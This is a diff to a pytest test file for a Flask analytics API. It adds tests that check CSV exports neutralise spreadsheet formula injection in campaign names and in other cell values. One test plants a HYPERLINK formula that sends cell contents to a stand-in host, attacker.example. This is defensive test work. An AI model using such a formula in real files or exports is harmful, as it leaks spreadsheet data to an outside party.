@@ -833,3 +833,25 @@ def test_campaign_funnel_equals_the_definition_counted_in_python(app: Flask, dat
                     "confirmed": len({p.card_id for p in pushes if p.status == "confirmed"})}
         june = next(c for c in analytics.campaigns(session, data["brand_a"], P) if c["id"] == campaign.id)
         assert {key: june[key] for key in expected} == expected == {"sent": 4, "accepted": 3, "confirmed": 2}
+
+
+def test_a_formula_in_a_campaign_name_is_plain_text_in_the_csv(app: Flask, client: FlaskClient,
+                                                                data: dict[str, Any]) -> None:
+    """CSV injection: a brand's text that a spreadsheet would run as a formula is quoted."""
+    attack = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
+    with app.app_context():
+        db.session().get(Campaign, data["campaign"]).name = attack
+        db.session().commit()
+    headers = {**bearer(data["api_key"]), "Accept": "text/csv"}
+    campaigns = client.get(f"/api/v1/analytics/campaigns?{QUERY}", headers=headers).get_data(as_text=True)
+    row = campaigns.splitlines()[1]
+    assert row.startswith(f"{data['campaign']},\"'=HYPERLINK(") and ",=HYPERLINK" not in row
+
+
+@pytest.mark.parametrize(("value", "cell"), [
+    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
+    ("\rx", "'\rx"), ("-5.00", "-5.00"), ("+3", "+3"), ("plain", "plain"), (None, ""), (-7, -7)])
+def test_csv_cells_that_start_like_a_formula_are_quoted(value: Any, cell: Any) -> None:
+    from service.csv_cells import safe_cell
+
+    assert safe_cell(value) == cell
